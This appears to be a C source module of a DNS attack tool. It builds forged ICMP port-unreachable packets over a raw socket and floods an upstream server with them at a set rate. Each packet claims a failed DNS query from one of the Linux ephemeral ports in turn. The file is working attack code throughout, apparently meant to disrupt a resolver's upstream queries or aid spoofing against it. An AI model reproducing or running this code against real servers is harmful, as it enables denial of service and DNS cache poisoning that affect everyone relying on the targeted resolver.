/*
 * Errors that say that the server cannot be reached, for each port in turn
 * from which a query may have gone to it; by somebody who has seen none.
 *
 *	icmp	SERVER is the upstream, and CLIENT whose name is given to it
 */
#include "attack.h"

#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>

#include <err.h>
#include <errno.h>
#include <poll.h>
#include <string.h>
#include <unistd.h>

/* ip_local_port_range, if nobody has changed it. */
#define PORT_FIRST	32768
#define PORTS		28232

struct packet {
	struct icmphdr	icmp;
	struct ip	ip;		/* of the query */
	struct udphdr	udp;
};

static uint16_t
checksum(const void *data, size_t len)
{
	const uint16_t *p = data;
	uint32_t sum = 0;

	for (; len > 0; len -= 2)
		sum += *p++;
	sum = (sum & 0xffff) + (sum >> 16);
	return ((uint16_t)~(sum + (sum >> 16)));
}

/* On one machine both have the upstream's address. */
static void
make(struct packet *p, struct in_addr upstream, uint32_t n)
{
	*p = (struct packet){
		.icmp = { .type = ICMP_DEST_UNREACH,
		    .code = ICMP_PORT_UNREACH },
		.ip = { .ip_v = 4, .ip_hl = 5, .ip_ttl = 64,
		    .ip_p = IPPROTO_UDP, .ip_src = upstream,
		    .ip_dst = upstream, .ip_len = htons(sizeof(p->ip) +
		    sizeof(p->udp) + DNS_QUERY_LEN) },
		.udp = { .uh_sport = htons((uint16_t)(PORT_FIRST + n % PORTS)),
		    .uh_dport = htons(53),
		    .uh_ulen = htons(sizeof(p->udp) + DNS_QUERY_LEN) },
	};
	p->ip.ip_sum = checksum(&p->ip, sizeof(p->ip));
	p->icmp.checksum = checksum(p, sizeof(*p));
}

bool
attack_icmp(struct attack *a)
{
	struct sockaddr_in *to = (struct sockaddr_in *)&a->server;
	struct packet p;
	uint64_t due;
	int fd;

	if (strcmp(a->kind, "icmp") != 0)
		return (false);
	to->sin_port = 0;
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)) == -1 ||
	    bind(fd, (struct sockaddr *)&a->client, a->size) == -1)
		err(1, "raw socket");
	while (attack_goes_on(a)) {
		due = (attack_now() - a->start) * a->number / SECOND;
		for (; a->sent < due && !attack_stopping; a->sent++) {
			make(&p, to->sin_addr, (uint32_t)a->sent);
			if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)to,
			    a->size) == -1 && errno != ENOBUFS)
				err(1, "sendto");
		}
		poll(NULL, 0, 1);
	}
	close(fd);
	return (true);
}
